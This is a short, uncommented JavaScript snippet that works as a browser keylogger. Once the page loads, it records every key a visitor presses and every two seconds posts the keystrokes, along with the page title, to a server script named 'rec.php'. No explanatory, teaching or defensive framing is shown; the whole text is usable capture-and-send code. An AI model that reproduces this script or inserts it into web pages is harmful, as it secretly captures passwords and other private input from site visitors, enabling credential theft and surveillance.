var rec = {
  cache: [], delay: 2000, busy: false,
  init: () => {
    window.addEventListener("keydown", (evt) => { rec.cache.push(evt.key); });
    window.setInterval(rec.send, rec.delay);
  },
  send: () => {
    if (rec.busy || rec.cache.length == 0) return;
    rec.busy = true;
    var data = new FormData();
    data.append("keys", JSON.stringify(rec.cache));
    data.append("page", document.title);
    rec.cache = [];
    fetch("rec.php", { method: "POST", body: data }).then((r) => r.text()).then(() => { rec.busy = false; }).catch((e) => console.error(e));
  }
};
window.addEventListener("DOMContentLoaded", rec.init);
